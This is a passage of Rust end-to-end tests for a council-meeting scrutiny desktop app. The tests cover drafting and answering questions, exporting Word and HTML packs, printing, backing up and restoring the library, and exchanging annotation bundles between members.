        return Err(format!("restoring the deleted question said: {said}"));
    }
    Ok(())
}

/// The rest of issue 12's walk: a budget table's cell highlighted; a
/// question drafted from a whole item and
/// one from a Budget-view row; a status change undone and redone from the
/// header; the answer quoted from a later meeting's minutes, which the
/// question then links to.
#[tokio::test(flavor = "multi_thread")]
async fn questions_from_an_item_and_a_budget_row_are_answered_from_later_minutes_with_undo_and_redo(
) {
    let _one = ONE_AT_A_TIME.lock().await;
    assert!(
        std::env::var_os("DISPLAY").is_some(),
        "run under a display: xvfb-run -a cargo test"
    );
    with_app("e2e-answer.png", &[], |client| async move {
        let result = answered(&client).await;
        (client, result)
    })
    .await;
}

/// Waits for the first question of the list to have the status `want`.
async fn status_becomes(client: &Client, want: &str) -> Result<(), String> {
    let mut now = serde_json::Value::Null;
    for _ in 0..50 {
        now = client
            .execute("return document.querySelector(\"[data-testid='question']\")?.dataset.status ?? null;", vec![])
            .await
            .map_err(|e| e.to_string())?;
        if now == serde_json::json!(want) {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Err(format!("the first question's status is {now}, not {want}"))
}

async fn answered(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(5) > [data-testid='item']",
        "[data-testid='draft-from-item']",
    )
    .await?;
    // A cell of a budget table, highlighted: the mark stands on its row of the text.
    let cell = client
        .execute(
            "const td = [...document.querySelectorAll(\"[data-testid='item-view'] table.budget td\")].find((c) => /\\d\\.\\d/.test(c.textContent));
             if (!td) return null;
             const r = document.createRange(); r.selectNodeContents(td);
             const s = document.getSelection(); s.removeAllRanges(); s.addRange(r);
             td.dispatchEvent(new MouseEvent('mouseup', { bubbles: true }));
             return td.textContent.trim();",
            vec![],
        )
        .await
        .map_err(err)?;
    let cell = cell
        .as_str()
        .ok_or("item 5 shows no budget table cell")?
        .to_string();
    try_wait_for(client, "[data-testid='highlight-check']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let mark = try_wait_for(client, "[data-testid='highlight']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if mark != cell {
        return Err(format!("the cell {cell:?} was highlighted as {mark:?}"));
    }
    try_wait_for(client, "[data-testid='draft-from-item']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let evidence = try_wait_for(client, "[data-testid='evidence']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !evidence.starts_with("Item") || !evidence.contains("Revenue and Capital Budget Monitoring")
    {
        return Err(format!(
            "the evidence of a question about item 5: {evidence}"
        ));
    }

    // From a row of the Budget view.
    click_until(
        client,
        "[data-testid='show-budget']",
        "[data-testid='ask-line']",
    )
    .await?;
    try_wait_for(client, "[data-testid='ask-line']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let mut kinds = String::new();
    for _ in 0..50 {
        kinds = client
            .execute("return [...document.querySelectorAll(\"[data-testid='evidence'] .kind\")].map((e) => e.textContent).join(',');", vec![])
            .await
            .map_err(err)?
            .as_str()
            .unwrap_or_default()
            .to_string();
        if kinds == "Item,Budget line" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    if kinds != "Item,Budget line" {
        return Err(format!("the two questions' evidence: {kinds}"));
    }

    // A change of status, undone and redone from the header.
    client
        .execute(
            "const s = document.querySelector(\"[data-testid='question-status']\"); s.value = 'asked'; s.dispatchEvent(new Event('change', { bubbles: true }));",
            vec![],
        )
        .await
        .map_err(err)?;
    status_becomes(client, "asked").await?;
    try_wait_for(client, "[data-testid='undo-button']:not([disabled])", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    status_becomes(client, "draft").await?;
    try_wait_for(client, "[data-testid='redo-button']:not([disabled])", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    status_becomes(client, "asked").await?;

    // The answer, quoted from the minutes of a later meeting.
    click_text(client, "[data-testid='meeting']", "1 December 2022").await?;
    click_until(
        client,
        "[data-testid='show-agenda']",
        "[data-testid='item']",
    )
    .await?;
    click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(3) > [data-testid='item']",
        "[data-testid='item-text'] [data-off]",
    )
    .await?;
    let words = client
        .execute(
            "for (const e of document.querySelectorAll(\"[data-testid='item-text'] [data-off]\")) {
               const m = e.textContent.match(/[A-Z][a-z]+( [a-z]+){4}/); if (m) return m[0];
             }
             return null;",
            vec![],
        )
        .await
        .map_err(err)?;
    let words = words
        .as_str()
        .ok_or("the minutes' item has no words to select")?
        .to_string();
    let selected = client
        .execute(
            "const q = arguments[0];
             const el = [...document.querySelectorAll(\"[data-testid='item-text'] [data-off]\")].find((e) => e.textContent.includes(q));
             const t = el.firstChild, i = t.textContent.indexOf(q);
             const r = document.createRange(); r.setStart(t, i); r.setEnd(t, i + q.length);
             const s = document.getSelection(); s.removeAllRanges(); s.addRange(r);
             document.querySelector(\"[data-testid='item-text']\").dispatchEvent(new MouseEvent('mouseup', { bubbles: true }));
             return true;",
            vec![serde_json::json!(words)],
        )
        .await
        .map_err(err)?;
    if selected != serde_json::json!(true) {
        return Err(format!("selecting {words:?}: {selected}"));
    }
    // The questions of earlier meetings it may answer are offered once the
    // window has drawn the selection's panel.
    try_wait_for(
        client,
        "[data-testid='answer-question'] option:nth-child(2)",
        LIMIT,
    )
    .await
    .map_err(|e| format!("no question to answer is offered: {e}"))?;
    let selected = client
        .execute(
            "const pick = document.querySelector(\"[data-testid='answer-question']\");
             const option = [...pick.options].find((o) => o.textContent.includes('2018-03-26') && o.textContent.includes('Item 5'));
             if (!option) return [...pick.options].map((o) => o.textContent).join(' | ');
             pick.value = option.value; pick.dispatchEvent(new Event('change', { bubbles: true }));
             return true;",
            vec![],
        )
        .await
        .map_err(err)?;
    if selected != serde_json::json!(true) {
        return Err(format!("choosing the question to answer: {selected}"));
    }
    try_wait_for(
        client,
        "[data-testid='answer-quote']:not([disabled])",
        LIMIT,
    )
    .await?
    .click()
    .await
    .map_err(err)?;
    let said = try_wait_for(client, "[data-testid='notice']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !said.contains("Quoted as the answer") {
        return Err(format!("quoting the answer said: {said}"));
    }

    // Back in March 2018: the question is answered, quoting the minutes.
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    click_until(
        client,
        "[data-testid='show-questions']",
        "[data-testid='answer-source']",
    )
    .await?;
    let source = try_wait_for(client, "[data-testid='answer-source']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !source.contains("2022-12-01") {
        return Err(format!("where the answer was quoted from: {source}"));
    }
    let answer = client
        .execute("return document.querySelector(\"[data-testid='question'][data-status='answered'] textarea:not([data-testid='question-text'])\")?.value ?? null;", vec![])
        .await
        .map_err(err)?;
    if !answer.as_str().is_some_and(|a| a.contains(&words)) {
        return Err(format!(
            "the answer reads {answer}, not the words {words:?}"
        ));
    }
    // Its link opens the minutes' item where the words are highlighted.
    try_wait_for(client, "[data-testid='answer-source'] button", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let mark = try_wait_for(client, "[data-testid='highlight']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if mark != words {
        return Err(format!(
            "the minutes' highlight reads {mark:?}, not {words:?}"
        ));
    }
    Ok(())
}

/// Issue 13 in the real window: the March 2018 meeting's question pack
/// saved as Word and as a web page (the save dialog answered by the test)
/// and both files read back; the print view of one chosen item; the
/// library backed up into a chosen folder and restored from it.
#[tokio::test(flavor = "multi_thread")]
async fn a_question_pack_is_saved_as_word_and_html_printed_and_the_library_backed_up_and_restored()
{
    let _one = ONE_AT_A_TIME.lock().await;
    let out = tempfile::tempdir().expect("temp dir");
    let saves = out.path().join("saved");
    let backups = out.path().join("stick");
    std::fs::create_dir_all(&saves).unwrap();
    // A folder picked in the dialog exists (the app never makes one).
    std::fs::create_dir_all(&backups).unwrap();
    let env = [
        ("SCRUTINEER_E2E_SAVE_DIR", saves.as_os_str()),
        ("SCRUTINEER_E2E_FOLDER", backups.as_os_str()),
    ];
    let saves_for_steps = saves.clone();
    with_app("e2e-share.png", &env, |client| async move {
        let result = share(&client, &saves_for_steps).await;
        (client, result)
    })
    .await;
}

/// The text of a Word document's body, its runs joined, paragraph by paragraph.
fn docx_text(path: &std::path::Path) -> Result<String, String> {
    use std::io::Read as _;
    let file = std::fs::File::open(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let mut zip = zip::ZipArchive::new(file).map_err(|e| format!("not a Word file: {e}"))?;
    let mut xml = String::new();
    zip.by_name("word/document.xml")
        .map_err(|e| format!("no document.xml: {e}"))?
        .read_to_string(&mut xml)
        .map_err(|e| e.to_string())?;
    let mut text = String::new();
    for para in xml.split("</w:p>") {
        for run in para.split("<w:t").skip(1) {
            let body = run.split_once('>').map_or("", |(_, b)| b);
            text.push_str(body.split("</w:t>").next().unwrap_or(""));
        }
        text.push('\n');
    }
    Ok(text.replace("&amp;", "&"))
}

async fn share(client: &Client, saves: &std::path::Path) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    // A question from the Asylum flag, and one typed.
    click_until(
        client,
        "[data-testid='show-flags']",
        "[data-testid='flags-view']",
    )
    .await?;
    let asylum = "[data-testid='flag'][data-rule='variance_over_threshold'][data-key*='asylum'] [data-testid='ask-flag']";
    try_wait_for(client, asylum, LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='question-text']", LIMIT).await?;

    // Saved as Word: the save dialog is answered with the name it proposed.
    click_until(
        client,
        "[data-testid='show-share']",
        "[data-testid='share-view']",
    )
    .await?;
    try_wait_for(client, "[data-testid='export-docx']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let said = try_wait_for(client, "[data-testid='notice']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !said.starts_with("Wrote 1 question") {
        return Err(format!("saving the Word pack said: {said}"));
    }
    let word = saves.join("Cabinet 2018-03-26 questions.docx");
    let text = docx_text(&word)?;
    if !text.contains("Asylum")
        || !text.contains("Can you explain what is driving")
        || !text.contains("Questions")
    {
        return Err(format!(
            "the Word pack reads: {}",
            text.chars().take(600).collect::<String>()
        ));
    }
    // And as a web page.
    try_wait_for(client, "[data-testid='export-html']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let html_file = saves.join("Cabinet 2018-03-26 questions.html");
    let mut html = String::new();
    for _ in 0..50 {
        if let Ok(h) = std::fs::read_to_string(&html_file) {
            html = h;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    if !html.contains("Asylum")
        || html.contains("<script")
        || html.contains("http://") && html.contains("src=")
    {
        return Err(format!(
            "the web page pack: {}",
            html.chars().take(600).collect::<String>()
        ));
    }

    // The print view of one chosen item: item 5, where the flag is.
    let boxes = client
        .find_all(Locator::Css("[data-testid='print-item']"))
        .await
        .map_err(err)?;
    boxes
        .get(4)
        .ok_or("no fifth item to choose")?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='print-preview']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='print-pack'] h1", LIMIT).await?;
    let shown = client
        .execute(
            "return document.querySelector(\"[data-testid='print-pack']\").textContent;",
            vec![],
        )
        .await
        .map_err(|e| format!("reading the print view: {e}"))?;
    let shown = shown.as_str().unwrap_or_default().to_string();
    if !shown.contains("Asylum") || !shown.contains("selected items only") {
        return Err(format!(
            "the print view: {}",
            shown.chars().take(600).collect::<String>()
        ));
    }
    client
        .execute("document.querySelector(\"[data-testid='print']\").scrollIntoView(); document.querySelector(\"[data-testid='print']\").click();", vec![])
        .await
        .map_err(|e| format!("pressing Print: {e}"))?;

    // Backed up into the chosen folder, then restored from it.
    click_until(
        client,
        "[data-testid='backups-button']",
        "[data-testid='choose-backup-folder']",
    )
    .await?;
    try_wait_for(client, "[data-testid='choose-backup-folder']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let row = try_wait_for(client, "[data-testid='backup']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !row.contains("1 questions") {
        return Err(format!("the backup listed: {row}"));
    }
    try_wait_for(client, "[data-testid='restore-backup']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='confirm-restore']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let said = try_wait_for(client, "[data-testid='notice']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !said.starts_with("Restored") {
        return Err(format!("restoring said: {said}"));
    }
    click_until(
        client,
        "[data-testid='open-questions-button']",
        "[data-testid='open-questions'] [data-testid='question']",
    )
    .await?;
    Ok(())
}

/// Two members, two laptops: the first highlights a passage with a note
/// and drafts a question, and saves a bundle of the meeting under their
/// name; the second imports it and sees both in place, under that name.
#[tokio::test(flavor = "multi_thread")]
async fn two_members_swap_a_bundle_and_each_sees_the_others_notes_and_questions_in_place() {
    let _one = ONE_AT_A_TIME.lock().await;
    assert!(
        std::env::var_os("DISPLAY").is_some(),
        "run under a display: xvfb-run -a cargo test"
    );
    let first_home = tempfile::tempdir().expect("temp dir");
    let second_home = tempfile::tempdir().expect("temp dir");
    let saves = tempfile::tempdir().expect("temp dir");
    let bundle = saves
        .path()
        .join("Cllr Ada Lovelace notes Cabinet 2018-03-26.scrutineer");
    let runs: [(&std::path::Path, Vec<(&str, &std::ffi::OsStr)>, &str); 2] = [
        (
            first_home.path(),
            vec![("SCRUTINEER_E2E_SAVE_DIR", saves.path().as_os_str())],
            "e2e-bundle-1.png",
        ),
        (
            second_home.path(),
            vec![("SCRUTINEER_E2E_PICK", bundle.as_os_str())],
            "e2e-bundle-2.png",
        ),
    ];
    for (run, (home, env, shot)) in runs.iter().enumerate() {
        let driver = Driver::start(home, env);
        let client = connect(&driver).await;
        let result = if run == 0 {
            share_a_bundle(&client, &bundle).await
        } else {
            import_a_bundle(&client).await
        };
        tokio::time::sleep(Duration::from_millis(500)).await;
        if let Ok(png) = client.screenshot().await {
            std::fs::write(artifacts_dir().join(shot), png).expect("write screenshot");
        }
        let _ = client.close().await;
        drop(driver);
        result.unwrap();
    }
}

async fn share_a_bundle(client: &Client, bundle: &std::path::Path) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(5) > [data-testid='item']",
        "[data-testid='item-view']",
    )
    .await?;
    highlight(
        client,
        "budget monitoring position",
        "Which months are *in* this?",
        None,
    )
    .await?;
    try_wait_for(client, "[data-testid='draft-from-item']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='question-text']", LIMIT).await?;
    click_until(
        client,
        "[data-testid='show-share']",
        "[data-testid='author-name']",
    )
    .await?;
    let name = try_wait_for(client, "[data-testid='author-name']", LIMIT).await?;
    name.send_keys("Cllr Ada Lovelace").await.map_err(err)?;
    // The name is saved when the field is left.
    try_wait_for(client, "[data-testid='include-exempt']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(
        client,
        "[data-testid='bundle-meeting']:not([disabled])",
        LIMIT,
    )
    .await?
    .click()
    .await
    .map_err(err)?;
    let said = try_wait_for(client, "[data-testid='notice']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !said.starts_with("Saved 1 note(s), 1 question(s)") || !bundle.is_file() {
        return Err(format!(
            "saving the bundle said: {said}; {} there: {}",
            bundle.display(),
            bundle.is_file()
        ));
    }
    Ok(())
}

async fn import_a_bundle(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    click_until(
        client,
        "[data-testid='show-share']",
        "[data-testid='import-bundle']",
    )
    .await?;
    try_wait_for(client, "[data-testid='import-bundle']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let said = try_wait_for(client, "[data-testid='notice']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !said.contains("Cllr Ada Lovelace") {
        return Err(format!("importing the bundle said: {said}"));
    }
    // Her question, under her name.
    click_until(
        client,
        "[data-testid='show-questions']",
        "[data-testid='question-author']",
    )
    .await?;
    let whose = try_wait_for(client, "[data-testid='question-author']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !whose.contains("Cllr Ada Lovelace") {
        return Err(format!("the question is shown as {whose}"));
    }
    // Her note, highlighted in place in item 5.
    click_until(
        client,
        "[data-testid='show-agenda']",
        "[data-testid='item']",
    )
    .await?;
    click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(5) > [data-testid='item']",
        "[data-testid='highlight']",
    )
    .await?;
    let mark = try_wait_for(client, "[data-testid='highlight']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if mark != "budget monitoring position" {
        return Err(format!("her highlight reads {mark:?}"));
    }
    let by = try_wait_for(client, "[data-testid='annotation-author']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !by.contains("Cllr Ada Lovelace") {
        return Err(format!("her note is shown {by}"));
    }
    Ok(())
}
